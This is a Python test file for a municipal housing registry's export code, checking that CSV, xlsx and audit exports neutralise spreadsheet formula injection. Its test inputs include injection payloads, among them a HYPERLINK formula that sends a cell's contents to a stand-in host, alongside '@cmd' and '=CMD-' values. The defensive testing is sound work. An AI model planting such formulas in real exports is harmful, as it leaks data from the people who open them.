"""Spreadsheet formula injection (CSV injection): no exported text cell runs as a formula.

Registration numbers, addresses and notes come from applicants; municipal staff open the
exports in Excel. Every text cell that a spreadsheet would read as a formula is defused with a
leading apostrophe (CSV) or stored as text with Excel's apostrophe marker (xlsx), numbers stay
numbers, and export → import → export gives the same bytes.
"""

from __future__ import annotations

import asyncio
import csv
import io
import random
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from housing_match import spreadsheet
from housing_match.audit.exports import csv_response
from housing_match.cli import app as cli_app
from housing_match.registry.bulk_format import COLUMNS, TEXT_KEYS
from housing_match.spreadsheet import defused, formula_like, restored
from tests.conftest import OrgFixture
from tests.registry.test_bulk import (  # noqa: F401  # a fixture
    cli_in_test_transaction,
    csv_bytes,
    flat,
    post_import,
)

TEXT_LABELS = {column.label_ja for column in COLUMNS if column.key in TEXT_KEYS}

HOSTILE = (
    '=HYPERLINK("https://example.invalid/?q="&A1,"詳細")',
    "+81-3-1234-5678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000@cmd",
    "＝1+1",
    "'=already quoted",
    "''+twice",
)
HARMLESS = ("-", " - ", "－", "大阪市北区梅田3丁目1-1", "A-12", "'apostrophe first", "", "1e3")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_defused_and_restored_exactly(text: str) -> None:
    cell = defused(text)
    assert cell.startswith("'")
    assert restored(cell) == text
    assert defused(restored(cell)) == cell


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_as_it_is(text: str) -> None:
    assert defused(text) == text
    assert restored(text) == text


def test_defused_and_restored_are_inverse_on_random_text() -> None:
    rng = random.Random(16)
    alphabet = "=+-@'\t\r \u3000＝a1-"
    for _ in range(5_000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
        cell = defused(text)
        assert restored(cell) == text, repr(text)
        # What a spreadsheet sees never starts a formula: the apostrophe comes first.
        assert not formula_like(cell) or cell.startswith("'"), repr(text)


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _hostile_rows() -> list[dict[str, Any]]:
    return [
        flat(
            f"=CMD-{index}",
            address=f"{text} 大阪市北区",
            notes=text,
            support_certifying_code="271004",
            support_connections=f"{text};福祉事務所",
            floor=-1,
            floors_total=3,
        )
        for index, text in enumerate(HOSTILE)
    ]


def test_csv_export_defuses_every_text_cell_and_round_trips_byte_for_byte(
    client: TestClient, municipality: OrgFixture
) -> None:
    rows = _hostile_rows()
    imported = post_import(client, municipality, csv_bytes(rows)).json()
    assert imported["accepted"] == len(rows), imported

    def export() -> bytes:
        response = client.get(
            "/v1/dwellings/export", headers={**municipality.headers, "Accept": "text/csv"}
        )
        assert response.status_code == 200
        return bytes(response.content)

    first = export()
    header, *body = _cells(first)
    assert len(body) == len(rows)
    for row in body:
        for label, cell in zip(header, row, strict=True):
            if label in TEXT_LABELS:
                assert not formula_like(cell) or cell.startswith("'"), (label, cell)
        # Numbers stay numbers: a basement floor is -1, not a defused '-1.
        assert row[header.index("所在階")] == "-1"
        assert row[header.index("家賃")] == "42000"
        assert row[header.index("登録番号")].startswith("'=CMD-")

    again = post_import(client, municipality, first).json()
    assert (again["unchanged"], again["rejected"]) == (len(rows), 0), again
    assert export() == first

    # The stored values are the text of the file, not the defused cells. (A CSV cell of an
    # apostrophe before formula-like text reads as that text, as it does in Excel.)
    geojson = client.get(
        "/v1/dwellings/export", params={"format": "geojson"}, headers=municipality.headers
    ).json()
    notes = sorted(feature["properties"]["notes"] for feature in geojson["features"])
    assert notes == sorted(restored(text.strip()) for text in HOSTILE)


def test_geojson_carries_text_as_it_is_and_imports_it_unchanged(
    client: TestClient, municipality: OrgFixture
) -> None:
    # An apostrophe that is part of the value survives a GeoJSON round trip: only a CSV
    # import takes the export's apostrophe off.
    post_import(client, municipality, csv_bytes([flat("Q-1", notes="''=quoted on purpose")]))
    exported = client.get(
        "/v1/dwellings/export", params={"format": "geojson"}, headers=municipality.headers
    )
    (feature,) = exported.json()["features"]
    assert feature["properties"]["notes"] == "'=quoted on purpose"
    back = post_import(
        client, municipality, exported.content, content_type="application/geo+json"
    ).json()
    assert back["unchanged"] == 1, back


@pytest.mark.usefixtures("cli_in_test_transaction")
def test_xlsx_export_keeps_formula_like_text_as_text_and_numbers_as_numbers(
    client: TestClient, municipality: OrgFixture, tmp_path: Path
) -> None:
    post_import(client, municipality, csv_bytes(_hostile_rows()))
    output = tmp_path / "register.xlsx"
    result = CliRunner().invoke(cli_app, ["export", "dwellings", "--output", str(output)])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(output).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    floor = header.index("所在階")
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and formula_like(cell.value):
                assert cell.data_type == "s"
                assert cell.quotePrefix, cell.value
        assert row[floor].value == -1
        assert row[floor].data_type == "n"
    numbers = {row[header.index("登録番号")].value for row in rows}
    assert numbers == {f"=CMD-{index}" for index in range(len(HOSTILE))}


def test_audit_csv_defuses_text_and_keeps_numbers() -> None:
    # Streamed in chunks of one row, so every row is defused in the chunk that carries it.
    rows = [("@A1", " =1+1", -3000, -0.5), ("-", "\t+1", 42000, 1.25)] * 3
    chunks = list(
        spreadsheet.csv_chunks(
            ("登録番号", "住所", "家賃(円)", "中央値との比"), rows, rows_per_chunk=1
        )
    )
    assert len(chunks) == len(rows) + 1
    response = csv_response("test", ("登録番号", "住所", "家賃(円)", "中央値との比"), rows)

    async def body() -> bytes:
        parts = [chunk async for chunk in response.body_iterator]
        assert all(isinstance(part, bytes) for part in parts)
        return b"".join(part for part in parts if isinstance(part, bytes))

    streamed = asyncio.run(body())
    assert streamed == b"".join(chunks)
    _header, *cells = _cells(streamed)
    assert cells == [["'@A1", "' =1+1", "-3000", "-0.5"], ["-", "'\t+1", "42000", "1.25"]] * 3
